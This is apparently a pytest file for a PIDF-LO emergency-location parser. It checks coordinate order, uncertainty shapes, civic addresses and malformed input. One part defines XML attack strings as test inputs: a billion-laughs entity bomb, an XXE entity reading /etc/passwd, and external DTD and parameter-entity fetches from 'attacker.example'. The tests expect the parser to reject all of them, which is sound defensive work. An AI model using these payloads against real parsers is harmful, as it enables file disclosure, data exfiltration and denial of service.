"""Places in PIDF-LO: shapes, addresses, and XML that means harm."""

import pytest

from watchfloor_sdk import GiveUp, Place
from watchfloor_sdk.eido.pidflo import MAX_BYTES, R68_OF_R95, read, write
from watchfloor_sdk.mapping import Bounds

BOUNDS = Bounds(-90.2, 29.8, -89.6, 30.2)


def presence(inside):
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<presence xmlns="urn:ietf:params:xml:ns:pidf" '
        'xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10" xmlns:gml="http://www.opengis.net/gml" '
        'xmlns:gs="http://www.opengis.net/pidflo/1.0" '
        'xmlns:ca="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr">'
        f"<gp:geopriv><gp:location-info>{inside}</gp:location-info></gp:geopriv></presence>"
    )


def test_a_point_has_its_latitude_first():
    place = read(presence("<gml:Point><gml:pos>29.987 -90.034</gml:pos></gml:Point>"))
    assert place == Place(point=(-90.034, 29.987))


@pytest.mark.parametrize("encoding", ["UTF-8", "UTF-16", "ISO-8859-1"])
def test_what_a_text_says_of_its_encoding_no_longer_holds(encoding):
    civic = "<ca:civicAddress><ca:RD>Müller</ca:RD></ca:civicAddress>"
    assert read(presence(civic).replace("UTF-8", encoding)).address == "Müller"


def test_a_height_is_passed_over():
    place = read(presence("<gml:Point><gml:pos>29.987 -90.034 12</gml:pos></gml:Point>"))
    assert place.point == (-90.034, 29.987)


def test_a_circle_of_95_percent_becomes_one_of_68():
    circle = "<gs:Circle><gml:pos>29.987 -90.034</gml:pos><gs:radius>100</gs:radius></gs:Circle>"
    assert read(presence(circle)).error_m == 61.7
    assert round(R68_OF_R95, 4) == 0.6167


def test_an_ellipse_counts_by_its_longer_half():
    ellipse = (
        "<gs:Ellipse><gml:pos>29.987 -90.034</gml:pos><gs:semiMajorAxis>50</gs:semiMajorAxis>"
        "<gs:semiMinorAxis>10</gs:semiMinorAxis></gs:Ellipse>"
    )
    assert read(presence(ellipse)).error_m == 30.8


@pytest.mark.parametrize(
    "corners",
    [
        "<gml:posList>29.98 -90.04 29.98 -90.02 30 -90.02 30 -90.04 29.98 -90.04</gml:posList>",
        "<gml:pos>29.98 -90.04</gml:pos><gml:pos>29.98 -90.02</gml:pos>"
        "<gml:pos>30 -90.02</gml:pos><gml:pos>30 -90.04</gml:pos><gml:pos>29.98 -90.04</gml:pos>",
    ],
)
def test_an_area_is_its_middle_with_its_reach(corners):
    ring = f"<gml:Polygon><gml:exterior><gml:LinearRing>{corners}</gml:LinearRing></gml:exterior>"
    place = read(presence(ring + "</gml:Polygon>"))
    assert place.point == pytest.approx((-90.03, 29.99))
    assert place.error_m == pytest.approx(1470 * R68_OF_R95, rel=0.01)


def test_an_address_is_written_as_dispatch_writes_it():
    civic = (
        "<ca:civicAddress><ca:country>US</ca:country><ca:A3>Exampleton</ca:A3><ca:PRD>W</ca:PRD>"
        "<ca:RD>Sample</ca:RD><ca:STS>Street</ca:STS><ca:HNO>42</ca:HNO></ca:civicAddress>"
    )
    assert read(presence(civic)) == Place(address="42 W Sample Street", precision="address")


@pytest.mark.parametrize(
    ("pos", "code"),
    [
        ("-90.034 29.987", "swapped_point"),
        ("NaN 1", "bad_point"),
        ("95 1", "bad_point"),
        ("29.9", "bad_point"),
        ("", "bad_point"),
    ],
)
def test_a_position_that_cannot_be_is_refused(pos, code):
    with pytest.raises(GiveUp) as caught:
        read(presence(f"<gml:Point><gml:pos>{pos}</gml:pos></gml:Point>"), BOUNDS)
    assert caught.value.code == code


def test_zero_zero_is_no_position():
    assert read(presence("<gml:Point><gml:pos>0 0</gml:pos></gml:Point>")) == Place()


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]><presence>&lol2;</presence>'
)
FILE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><presence>&x;</presence>'
OUTSIDE = '<!DOCTYPE a SYSTEM "http://attacker.example/x.dtd"><presence/>'
PARAMETER = '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/x">%p;]><presence/>'


@pytest.mark.parametrize("text", [LAUGHS, FILE, OUTSIDE, PARAMETER])
def test_a_document_type_ends_the_reading(text):
    with pytest.raises(GiveUp, match="document type"):
        read(text)


@pytest.mark.parametrize(
    "text",
    [
        "<a>" * 100_000,
        "<presence>" + "x" * MAX_BYTES + "</presence>",
        "<presence>&unknown;</presence>",
        "<presence>",
        "not xml",
        "",
        "<presence>\x00</presence>",
    ],
)
def test_what_is_no_location_is_refused(text):
    with pytest.raises(GiveUp) as caught:
        read(text)
    assert caught.value.code == "bad_location"


@pytest.mark.parametrize(
    "place", [Place(point=(-90.03437791, 29.98765875)), Place(point=(-90.0, 30.0), error_m=60.0)]
)
def test_what_is_written_is_read_again(place):
    assert read(write(place, "cad@police.example.org")) == place


def test_a_place_without_a_point_is_not_written():
    assert write(Place(address="100 Example St"), "cad@police.example.org") is None
